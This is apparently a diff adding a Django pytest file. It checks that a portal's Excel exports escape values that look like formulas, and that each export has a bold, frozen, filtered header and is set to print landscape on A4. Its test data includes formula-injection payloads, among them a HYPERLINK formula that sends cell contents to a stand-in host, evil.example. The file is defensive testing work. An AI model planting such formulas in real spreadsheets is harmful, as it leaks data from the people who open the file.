@@ -1,0 +1,200 @@
+"""Every .xlsx the portal hands out: text never becomes a formula, and each file is laid out as staff expect.
+
+``EXPORTS`` holds one case per export URL: it puts names that a spreadsheet
+would run as formulas where users type them (unit names at sign-up, event
+descriptions, region names) and downloads the file. The URLconf is walked
+for every view that answers with an .xlsx, so a new export without a case
+here fails ``test_every_xlsx_url_has_a_case``.
+"""
+
+import datetime
+import inspect
+import io
+import re
+from collections.abc import Callable
+from dataclasses import dataclass
+from pathlib import Path
+
+import pytest
+from django.conf import settings
+from django.urls import clear_url_caches, path, resolve, reverse
+from openpyxl import load_workbook
+
+from apps.core.excel import Column, xlsx_response, xlsx_table
+from apps.incentives.models import IncentiveMeasure
+from apps.incentives.services import incentive_grant_create
+from apps.reports.models import ReportKind
+from apps.reports.services import report_build, report_request
+from apps.units.models import Unit
+from tests.factories import EnterpriseFactory, RegionFactory, RiskEventFactory, named
+from tests.url_protection import iter_patterns
+
+pytestmark = pytest.mark.django_db
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点此查看")', "+1+1", "@SUM(1)", "-2+3", "\t=1+1"]
+XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+
+
+@dataclass(frozen=True)
+class Export:
+    """Makes the hostile data an export will contain, and returns (user, url) to download it."""
+
+    prepare: Callable
+
+
+def _enterprises(cast, regions) -> list[Unit]:
+    return [EnterpriseFactory(unit__name=name, unit__region=regions.county_x, credit_grade="A").unit
+            for name in HOSTILE]
+
+
+def _registry(cast, regions):
+    _enterprises(cast, regions)
+    return cast.county_admin_x, reverse("registry:unit_export")
+
+
+def _province(cast, regions):
+    for unit in _enterprises(cast, regions):
+        named(unit, city=regions.city, by=cast.city_admin, issued_on=datetime.date(2024, 12, 1))
+    return cast.city_admin, reverse("named_units:province_excel") + "?year=2024"
+
+
+def _incentives(cast, regions):
+    measure = IncentiveMeasure.objects.get(code="fewer-inspections")
+    for unit in _enterprises(cast, regions):
+        title = named(unit, city=regions.city, by=cast.city_admin, issued_on=datetime.date(2024, 12, 1))
+        incentive_grant_create(measure=measure, recognition=title, granted_on=datetime.date(2025, 1, 1),
+                               by=cast.city_admin)
+    return cast.county_admin_x, reverse("incentives:measure_export", args=[measure.code]) + "?year=2025"
+
+
+def _risks(cast, regions):
+    for unit in _enterprises(cast, regions):
+        RiskEventFactory(unit=unit, description=unit.name, source=unit.name)
+    return cast.county_admin_x, reverse("risks:export")
+
+
+def _report(cast, regions):
+    # Region names reach the city report's county table; a county admin of the province's system types them.
+    for name in HOSTILE:
+        RegionFactory(name=name, parent=regions.city)
+    report = report_request(kind=ReportKind.CITY, region=regions.city, year=2025, by=cast.city_admin)
+    report_build(report_id=report.pk)
+    return cast.city_admin, reverse("reports:download", args=[report.pk, "xlsx"])
+
+
+EXPORTS = {
+    "registry:unit_export": Export(_registry),
+    "named_units:province_excel": Export(_province),
+    "incentives:measure_export": Export(_incentives),
+    "risks:export": Export(_risks),
+    "reports:download": Export(_report),
+}
+# Import templates carry no user data; their drop-down lists are tested in tests/core/test_excel_imports.py.
+TEMPLATES = {"registry:import_template", "registry:import_template_parks", "registry:import_template_industries",
+             "risks:import_template"}
+
+
+@pytest.fixture(autouse=True)
+def _private_media(settings, tmp_path):
+    settings.PRIVATE_MEDIA_ROOT = tmp_path / "private"
+
+
+def _download(client, cast, regions, name: str):
+    user, url = EXPORTS[name].prepare(cast, regions)
+    client.force_login(user)
+    response = client.get(url)
+    assert response.status_code == 200, (url, response.status_code)
+    content = b"".join(response.streaming_content) if response.streaming else response.content
+    return response, load_workbook(io.BytesIO(content))
+
+
+@pytest.mark.parametrize("name", sorted(EXPORTS))
+def test_text_that_looks_like_a_formula_comes_back_as_text(client, cast, regions, name):
+    _, book = _download(client, cast, regions, name)
+    found = {}
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                for hostile in HOSTILE:
+                    if isinstance(cell.value, str) and cell.value.endswith(hostile):
+                        found[hostile] = cell
+                assert cell.data_type != "f", f"{name}: {sheet.title}!{cell.coordinate} is a formula: {cell.value}"
+    assert set(found) == set(HOSTILE), f"{name}: not every hostile name was exported: {sorted(found)}"
+    for hostile, cell in found.items():
+        assert cell.data_type == "s" and cell.value == "'" + hostile, (name, cell.coordinate, cell.value)
+
+
+@pytest.mark.parametrize("name", sorted(EXPORTS))
+def test_each_export_has_a_bold_frozen_filtered_header_and_prints_on_a4(client, cast, regions, name):
+    response, book = _download(client, cast, regions, name)
+    assert response["Content-Type"] == XLSX
+    listing = next(sheet for sheet in book.worksheets if sheet.auto_filter.ref)
+    header_row = int(listing.freeze_panes[1:]) - 1
+    header = [cell for cell in listing[header_row] if cell.value]
+    assert header and all(cell.font.b for cell in header)
+    assert listing.auto_filter.ref.startswith(f"A{header_row}:")
+    assert listing.page_setup.paperSize == 9 and listing.page_setup.orientation == "landscape"
+    assert listing.print_title_rows.endswith(f"${header_row}")
+    assert all(listing.column_dimensions[cell.column_letter].width >= 6 for cell in header)
+
+
+def test_credit_codes_are_text_in_the_province_list(client, cast, regions):
+    _, book = _download(client, cast, regions, "named_units:province_excel")
+    sheet = book.active
+    header = [cell.value for cell in sheet[2]]
+    column = header.index("统一社会信用代码")
+    codes = [row[column] for row in sheet.iter_rows(min_row=3)]
+    assert len(codes) == len(HOSTILE)
+    assert all(cell.data_type == "s" and len(cell.value) == 18 and cell.number_format == "@" for cell in codes)
+
+
+def _views_answering_xlsx() -> set[str]:
+    """URL names whose view builds or serves an .xlsx (found in the view's code, so no list to forget)."""
+    names = set()
+    for name, sample in iter_patterns():
+        view = inspect.unwrap(resolve(sample).func)
+        try:
+            source = inspect.getsource(view)
+        except (OSError, TypeError):
+            continue
+        if "xlsx" in source.lower():
+            names.add(name)
+    return names
+
+
+def test_every_xlsx_url_has_a_case():
+    assert _views_answering_xlsx() == set(EXPORTS) | TEMPLATES
+
+
+def test_the_walk_finds_a_new_export(settings):
+    """The check above must fail when someone adds an export: the walk sees it."""
+    from hlr_portal import urls as real_urls
+
+    def new_export(request):
+        return xlsx_response(xlsx_table(title="新导出", columns=[Column("单位名称")], rows=[]), filename="new.xlsx")
+
+    class Urlconf:
+        urlpatterns = [*real_urls.urlpatterns, path("new-export.xlsx", new_export, name="new_export")]
+
+    settings.ROOT_URLCONF = Urlconf
+    clear_url_caches()
+    try:
+        found = _views_answering_xlsx()
+    finally:
+        clear_url_caches()
+    assert "new_export" in found
+
+
+APP_DIR = Path(settings.BASE_DIR) / "apps"
+# The writer and the import reader.
+OPENPYXL_IMPORT = re.compile(r"^\s*(from|import) openpyxl", re.MULTILINE)
+MAY_USE_OPENPYXL = {APP_DIR / "core" / "excel.py", APP_DIR / "core" / "excel_import.py"}
+
+
+def test_only_the_one_writer_and_reader_touch_openpyxl():
+    """A module writing its own workbook would bypass the formula guard; the URL walk would not see a task."""
+    offenders = [
+        str(path.relative_to(settings.BASE_DIR)) for path in APP_DIR.rglob("*.py")
+        if path not in MAY_USE_OPENPYXL and OPENPYXL_IMPORT.search(path.read_text(encoding="utf-8"))
+    ]
+    assert offenders == []
